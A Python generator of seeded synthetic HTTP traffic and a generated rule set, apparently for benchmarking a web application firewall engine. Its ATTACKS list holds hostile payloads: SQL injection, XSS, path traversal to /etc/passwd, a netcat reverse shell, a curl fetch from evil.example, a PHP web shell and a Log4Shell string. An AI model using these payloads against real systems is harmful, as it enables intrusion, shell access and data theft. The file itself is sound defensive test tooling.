"""Seeded synthetic HTTP traffic (BASELINE.md "Inputs").

Seed 0xC0A2A, numpy PCG64.  C1/C2: GET requests, path from 20 templates,
0-6 query args (key len U[3,12], value len lognormal(2.5, 0.8) clipped to
[1, 256] over URL-safe ASCII with ~15 % percent-escapes), ~10 browser-like
headers (~600 B incl. a Cookie with 0-4 pairs), 5 % of requests carry an
attack payload in a random argument.  C3 adds 50 % POST requests with
4-64 KB bodies: 60 % application/x-www-form-urlencoded, 40 % application/json
(objects nested to depth <= 4: strings -- 15 % with JSON escapes --, numbers,
booleans, nulls, arrays).

Produces the packed gi_batch layout directly (gpuinspect.pack_parts) so a
million requests build in seconds.
"""

from __future__ import annotations

import numpy as np

import gpuinspect

SEED = 0xC0A2A

PATHS = [
    b"/", b"/index.html", b"/api/v1/users", b"/api/v1/users/%d", b"/search", b"/products/%d",
    b"/static/js/app.%d.js", b"/static/css/main.css", b"/images/logo.png", b"/login",
    b"/account/settings", b"/cart", b"/checkout", b"/blog/post-%d", b"/news", b"/api/v2/orders/%d/items",
    b"/docs/page-%d.html", b"/download", b"/healthz", b"/graphql",
]
USER_AGENTS = [
    b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    b"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    b"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    b"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    b"curl/8.5.0", b"Go-http-client/1.1", b"python-requests/2.31.0", b"okhttp/4.12.0",
]
HOSTS = [b"www.example.com", b"api.example.com", b"shop.example.com", b"localhost:8080"]
ACCEPTS = [b"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", b"application/json", b"*/*",
           b"image/avif,image/webp,*/*"]
LANGS = [b"en-US,en;q=0.9", b"de-DE,de;q=0.8,en;q=0.5", b"fr-FR", b"ja,en-US;q=0.7"]
ENCODINGS = [b"gzip, deflate, br", b"gzip", b"identity"]
COOKIE_NAMES = [b"sessionid", b"_ga", b"theme", b"lang", b"csrftoken", b"cart_id", b"_gid", b"consent"]
ESCAPES = [b"%20", b"%2F", b"%3D", b"%C3%A9", b"%E2%82%AC", b"%26", b"%2B", b"%40", b"+", b"%41"]
URLSAFE = np.frombuffer(b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-._~", np.uint8)
KEYCHARS = np.frombuffer(b"abcdefghijklmnopqrstuvwxyz_", np.uint8)

# Attack payloads (fixed list; raw form -- encoded per request below)
ATTACKS = [
    b"1 UNION SELECT username, password FROM users",
    b"1' OR '1'='1",
    b"admin' or 1=1--",
    b"1; DROP TABLE users",
    b"<script>alert(1)</script>",
    b"<img src=x onerror=alert(document.cookie)>",
    b"javascript:alert(1)",
    b"<iframe src=//evil.example/x>",
    b"../../../../etc/passwd",
    b"..\\..\\windows\\win.ini",
    b";cat /etc/passwd",
    b"| nc -e /bin/sh 10.0.0.1 4444",
    b"$(curl http://evil.example/x.sh)",
    b"evilmonkey",
    b"<?php system($_GET['c']); ?>",
    b"php://filter/convert.base64-encode/resource=index.php",
    b"${jndi:ldap://evil.example/a}",
    b"select * from information_schema.tables",
    b"1 AND SLEEP(5)",
    b"\" onmouseover=\"alert(1)",
]


def _quote(s: bytes, full: bool) -> bytes:
    out = bytearray()
    for c in s:
        ch = bytes([c])
        if (48 <= c <= 57) or (65 <= c <= 90) or (97 <= c <= 122) or ch in b"-._~":
            out += ch
        elif c == 0x20 and not full:
            out += b"+"
        elif not full and ch in b"<>'\"()/;:$|{}.!*":
            out += ch
        else:
            out += b"%%%02X" % c
    return bytes(out)


JSON_ESCAPES = [b"\\u00e9", b"\\n", b"\\\"", b"\\\\", b"\\/", b"\\t", b"\\u20ac", b"\\ud83d\\ude00", b"%2F", b"%C3%A9"]
N_SUBTREES = 2048


def json_quote(b: bytes) -> bytes:
    """A JSON string literal for raw bytes (ASCII payloads)."""
    out = bytearray(b'"')
    for c in b:
        if c == 0x22 or c == 0x5C:
            out += b"\\" + bytes([c])
        elif c < 0x20:
            out += b"\\u%04x" % c
        else:
            out.append(c)
    out += b'"'
    return bytes(out)


class TrafficGen:
    def __init__(self, seed: int = SEED):
        self.rng = np.random.Generator(np.random.PCG64(seed))
        self.pool = URLSAFE[self.rng.integers(0, len(URLSAFE), 1 << 22)].tobytes()
        self.kpool = KEYCHARS[self.rng.integers(0, len(KEYCHARS), 1 << 20)].tobytes()
        self._subtrees = None

    def _jkey(self):
        rng = self.rng
        o = int(rng.integers(0, len(self.kpool) - 16))
        return self.kpool[o:o + int(rng.integers(3, 13))]

    def _jscalar(self):
        rng = self.rng
        r = rng.random()
        if r < 0.55:
            n = int(np.clip(rng.lognormal(2.5, 0.8), 1, 256))
            o = int(rng.integers(0, len(self.pool) - 260))
            v = self.pool[o:o + n]
            if rng.random() < 0.15:
                v = v[: n // 2] + JSON_ESCAPES[int(rng.integers(0, len(JSON_ESCAPES)))] + v[n // 2:]
            return b'"' + v + b'"'
        if r < 0.8:
            if rng.random() < 0.7:
                return str(int(rng.integers(-100000, 1000000))).encode()
            return b"%.3f" % float(rng.normal(0, 1000))
        if r < 0.9:
            return b"true" if rng.random() < 0.5 else b"false"
        return b"null"

    def _jvalue(self, depth):
        rng = self.rng
        r = rng.random()
        if depth < 4 and r < 0.3:
            n = int(rng.integers(1, 6))
            return b"{" + b",".join(b'"' + self._jkey() + b'":' + self._jvalue(depth + 1) for _ in range(n)) + b"}"
        if depth < 4 and r < 0.45:
            n = int(rng.integers(0, 8))
            return b"[" + b",".join(self._jvalue(depth + 1) for _ in range(n)) + b"]"
        return self._jscalar()

    def _json_body(self, attack: bool):
        """{"<key>_<i>": subtree, ...} up to a log-uniform 4-64 KB; the
        subtrees (depth <= 3 below the root object: <= 4 levels) come from a seeded pool."""
        rng = self.rng
        if self._subtrees is None:
            self._subtrees = [self._jvalue(1) for _ in range(N_SUBTREES)]
        target = int(np.exp(rng.uniform(np.log(4096), np.log(65536))))
        picks = rng.integers(0, N_SUBTREES, 1 + target // 40)
        members = []
        size = 2
        for i, p in enumerate(picks):
            m = b'"' + self._jkey() + b"_%d" % i + b'":' + self._subtrees[int(p)]
            members.append(m)
            size += len(m) + 1
            if size >= target:
                break
        if attack:
            pay = ATTACKS[int(rng.integers(0, len(ATTACKS)))]
            k = int(rng.integers(0, len(members) + 1))
            members.insert(k, b'"' + self._jkey() + b'":{"' + self._jkey() + b'":' + json_quote(pay) + b"}")
        return b"{" + b",".join(members) + b"}"

    def _args(self, n_args, attack_at):
        rng = self.rng
        out = []
        klens = rng.integers(3, 13, n_args)
        vlens = np.clip(rng.lognormal(2.5, 0.8, n_args), 1, 256).astype(np.int64)
        ko = rng.integers(0, len(self.kpool) - 16, n_args)
        vo = rng.integers(0, len(self.pool) - 260, n_args)
        esc = rng.random(n_args) < 0.15
        for a in range(n_args):
            k = self.kpool[ko[a]:ko[a] + klens[a]]
            v = self.pool[vo[a]:vo[a] + vlens[a]]
            if esc[a]:
                v = v[: len(v) // 2] + ESCAPES[int(rng.integers(0, len(ESCAPES)))] + v[len(v) // 2:]
            if a == attack_at:
                p = ATTACKS[int(rng.integers(0, len(ATTACKS)))]
                v = _quote(p, full=bool(rng.random() < 0.5))
            out.append(k + b"=" + v)
        return b"&".join(out)

    def _headers(self, parts, path):
        rng = self.rng
        hs = [
            (b"Host", HOSTS[int(rng.integers(0, len(HOSTS)))]),
            (b"User-Agent", USER_AGENTS[int(rng.integers(0, len(USER_AGENTS)))]),
            (b"Accept", ACCEPTS[int(rng.integers(0, len(ACCEPTS)))]),
            (b"Accept-Language", LANGS[int(rng.integers(0, len(LANGS)))]),
            (b"Accept-Encoding", ENCODINGS[int(rng.integers(0, len(ENCODINGS)))]),
        ]
        nck = int(rng.integers(0, 5))
        if nck:
            names = rng.choice(len(COOKIE_NAMES), nck, replace=False)
            vo = rng.integers(0, len(self.pool) - 40, nck)
            ck = b"; ".join(COOKIE_NAMES[int(nm)] + b"=" + self.pool[vo[j]:vo[j] + 24] for j, nm in enumerate(names))
            hs.append((b"Cookie", ck))
        if rng.random() < 0.5:
            hs.append((b"Referer", b"https://www.example.com" + path))
        o = int(rng.integers(0, len(self.pool) - 40))
        hs.append((b"X-Request-Id", self.pool[o:o + 32]))
        hs.append((b"Cache-Control", b"no-cache" if rng.random() < 0.3 else b"max-age=0"))
        hs.append((b"Upgrade-Insecure-Requests", b"1"))
        for k, v in hs:
            parts.append(k)
            parts.append(v)
        return len(hs)

    def _path(self):
        rng = self.rng
        t = PATHS[int(rng.integers(0, len(PATHS)))]
        return t % int(rng.integers(1, 100000)) if b"%d" in t else t

    def gen(self, n: int, post_frac: float = 0.0, attack_rate: float = 0.05, json_frac: float = 0.4):
        """Return (parts, nh) for gpuinspect.pack_parts."""
        rng = self.rng
        parts = []
        nh = np.empty(n, np.int64)
        ports = np.empty(n, np.int64)
        n_args = rng.integers(0, 7, n)
        attack = rng.random(n) < attack_rate
        post = rng.random(n) < post_frac
        for i in range(n):
            path = self._path()
            na = int(n_args[i])
            att = int(rng.integers(0, na)) if (attack[i] and na > 0) else -1
            if attack[i] and na == 0:
                na, att = 1, 0
            q = self._args(na, att) if na else b""
            uri = path + (b"?" + q if q else b"")
            if post[i]:
                # an attack request carries its payload in the query (above)
                # or, half of the time, in one body argument instead
                body_attack = bool(attack[i]) and rng.random() < 0.5
                is_json = rng.random() < json_frac
                body = self._json_body(body_attack) if is_json else self._urlencoded_body(body_attack)
                parts += [b"POST", uri, b"HTTP/1.1", body, self._client(i, ports)]
                k = self._headers(parts, path)
                ctype = b"application/json" if is_json else b"application/x-www-form-urlencoded"
                parts += [b"Content-Type", ctype, b"Content-Length", str(len(body)).encode()]
                nh[i] = k + 2
            else:
                parts += [b"GET", uri, b"HTTP/1.1", b"", self._client(i, ports)]
                nh[i] = self._headers(parts, path)
        return parts, nh, ports

    def _client(self, i, ports):
        """ProcessConnection client (REMOTE_ADDR / REMOTE_PORT): derived from the
        request index, so the draws of the other fields stay as they were."""
        h = (i * 2654435761 + 12345) & 0xFFFFFFFF
        ports[i] = 1024 + h % 60000
        if h % 16 == 0:  # some IPv6 clients
            return b"2001:db8:%x::%x" % ((h >> 8) & 0xFFFF, h & 0xFFF)
        return b"10.%d.%d.%d" % ((h >> 24) & 255, (h >> 16) & 255, (h >> 8) & 255)

    def _urlencoded_body(self, attack: bool):
        rng = self.rng
        target = int(np.exp(rng.uniform(np.log(4096), np.log(65536))))
        chunks = []
        size = 0
        while size < target:
            na = int(rng.integers(4, 16))
            c = self._args(na, -1)
            chunks.append(c)
            size += len(c) + 1
        body = b"&".join(chunks)[:target].rstrip(b"%")
        if attack:
            k = int(rng.integers(0, len(chunks)))
            body = b"&".join(chunks[:k] + [self._args(1, 0)] + chunks[k:])[:target + 300]
        return body

    def batch(self, n: int, post_frac: float = 0.0, attack_rate: float = 0.05,
              json_frac: float = 0.4) -> "gpuinspect.PackedBatch":
        parts, nh, ports = self.gen(n, post_frac, attack_rate, json_frac)
        return gpuinspect.pack_parts(parts, nh, ports)


def c1_batch(n: int = 10000, seed: int = SEED):
    return TrafficGen(seed).batch(n)


def c2_batch(n: int = 1_000_000, seed: int = SEED):
    return TrafficGen(seed).batch(n)


def c3_batch(n: int = 100_000, seed: int = SEED):
    return TrafficGen(seed).batch(n, post_frac=0.5)


# ------------------------------------------------------------------- C5
# BASELINE.json configs[4]: a large custom ruleset (10k generated @rx rules +
# a 100k-phrase @pmFromFile list) over ~1 MB multipart bodies.  Seeded; the
# rule text, the phrase file and the bodies are pure functions of the seed.
C5_ALPHA = np.frombuffer(b"abcdefghijklmnopqrstuvwxyz", np.uint8)


def _c5_words(rng, n, lo=4, hi=9):
    lens = rng.integers(lo, hi, n)
    chars = C5_ALPHA[rng.integers(0, 26, int(lens.sum()))].tobytes()
    out, o = [], 0
    for ln in lens:
        out.append(chars[o:o + ln])
        o += ln
    return out


def _c5_material(seed: int, n_rx: int, n_phrases: int):
    """The seeded rule material shared by the ruleset and the traffic: the
    rule vocabulary, per rule (kind, words), and the phrase list."""
    rng = np.random.Generator(np.random.PCG64(seed + 5))
    vocab = [w.decode() for w in _c5_words(rng, 4096)]
    rules = []
    for _ in range(n_rx):
        w = [vocab[int(k)] for k in rng.integers(0, len(vocab), 3)]
        rules.append((int(rng.integers(0, 5)), w))
    phrases = sorted(set(w.decode() for w in _c5_words(rng, n_phrases, 6, 12)))
    return vocab, rules, phrases


def c5_ruleset(n_rx: int = 10_000, n_phrases: int = 100_000, seed: int = SEED):
    """(SecLang text, {file name: bytes}): n_rx @rx rules over ARGS /
    ARGS_NAMES / FILES_NAMES (t:lowercase), one @pmFromFile rule over ARGS
    with n_phrases phrases, anomaly-scored, blocking at score >= 5."""
    vocab, rules, phrases = _c5_material(seed, n_rx, n_phrases)
    lines = ["SecRuleEngine On", "SecRequestBodyAccess On", "SecRequestBodyLimit 4194304",
             'SecAction "id:1,phase:1,pass,nolog,setvar:tx.anomaly_score=0"']
    for i, (kind, w) in enumerate(rules):
        if kind == 0:
            pat = "%s[-_.]?%s" % (w[0], w[1])
        elif kind == 1:
            pat = "(?:%s|%s)\\d{2,4}" % (w[0], w[1])
        elif kind == 2:
            pat = "\\b%s\\s*=\\s*%s" % (w[0], w[1])
        elif kind == 3:
            pat = "%s[a-z]{0,3}%s" % (w[0][:4], w[1][:4])
        else:
            pat = "^%s|%s$" % (w[0], w[2])
        lines.append('SecRule ARGS|ARGS_NAMES|FILES_NAMES "@rx %s" "id:%d,phase:2,pass,t:none,t:lowercase,'
                     'setvar:tx.anomaly_score=+1"' % (pat, 100000 + i))
    lines.append('SecRule ARGS "@pmFromFile c5_phrases.txt" "id:99000,phase:2,pass,t:none,t:lowercase,'
                 'setvar:tx.anomaly_score=+2"')
    lines.append('SecRule TX:ANOMALY_SCORE "@ge 5" "id:99100,phase:2,deny,status:403"')
    files = {"c5_phrases.txt": ("\n".join(["# generated"] + phrases) + "\n").encode()}
    return "\n".join(lines) + "\n", files


def _c5_snippet(rng, rules, phrases) -> bytes:
    """A string some rule (or the phrase list) matches."""
    if rng.random() < 0.5:
        return phrases[int(rng.integers(0, len(phrases)))].upper().encode()
    kind, w = rules[int(rng.integers(0, len(rules)))]
    return {0: "%s-%s" % (w[0], w[1]), 1: "%s%d" % (w[0], 100 + int(rng.integers(0, 899))),
            2: "%s = %s" % (w[0], w[1]), 3: "%sxy%s" % (w[0][:4], w[1][:4]), 4: "%s" % w[2]}[kind].encode()


def c5_body(rng, body_bytes: int, vocab, boundary: bytes, rules=None, phrases=None, hit_rate: float = 0.01):
    """~body_bytes of multipart/form-data: a few file parts (their content is
    only sized by coraza) and ~1 KB form fields of vocabulary text, a
    hit_rate fraction of them carrying a rule-matching snippet."""
    parts, size = [], 0
    k = 0
    while size < body_bytes:
        if k % 64 == 7:
            fn = b"%s.%s" % (vocab[int(rng.integers(0, len(vocab)))], [b"txt", b"jpg", b"php"][k % 3])
            data = C5_ALPHA[rng.integers(0, 26, int(rng.integers(16384, 65536)))].tobytes()
            p = (b'Content-Disposition: form-data; name="up%d"; filename="%s"\r\nContent-Type: '
                 b"application/octet-stream\r\n\r\n" % (k, fn) + data)
        else:
            words = [vocab[int(x)] for x in rng.integers(0, len(vocab), int(rng.integers(60, 200)))]
            if rules and rng.random() < hit_rate:
                words.insert(int(rng.integers(0, len(words) + 1)), _c5_snippet(rng, rules, phrases))
            data = b" ".join(words)
            p = b'Content-Disposition: form-data; name="f%d"\r\n\r\n' % k + data
        parts.append(b"--" + boundary + b"\r\n" + p + b"\r\n")
        size += len(parts[-1])
        k += 1
    return b"".join(parts) + b"--" + boundary + b"--\r\n"


def c5_batch(n: int, body_bytes: int = 1 << 20, seed: int = SEED, n_rx: int = 10_000,
             n_phrases: int = 100_000, hit_rate: float = 0.01) -> "gpuinspect.PackedBatch":
    """n multipart requests for c5_ruleset(n_rx, n_phrases, seed)."""
    vocab_s, rules, phrases = _c5_material(seed, n_rx, n_phrases)
    rng = np.random.Generator(np.random.PCG64(seed + 55))
    vocab = [w.encode() for w in vocab_s] + _c5_words(rng, 4096)  # the rules' vocabulary and unrelated words
    parts, nh = [], np.empty(n, np.int64)
    ports = np.empty(n, np.int64)
    for i in range(n):
        b = b"c5b%08x" % int(rng.integers(0, 1 << 31))
        body = c5_body(rng, body_bytes, vocab, b, rules, phrases, hit_rate)
        parts += [b"POST", b"/upload?id=%d" % i, b"HTTP/1.1", body, TrafficGen._client(None, i, ports)]
        hs = [(b"Host", b"files.example.com"), (b"User-Agent", USER_AGENTS[i % len(USER_AGENTS)]),
              (b"Content-Type", b"multipart/form-data; boundary=" + b), (b"Content-Length", str(len(body)).encode())]
        for k, v in hs:
            parts += [k, v]
        nh[i] = len(hs)
    return gpuinspect.pack_parts(parts, nh, ports)
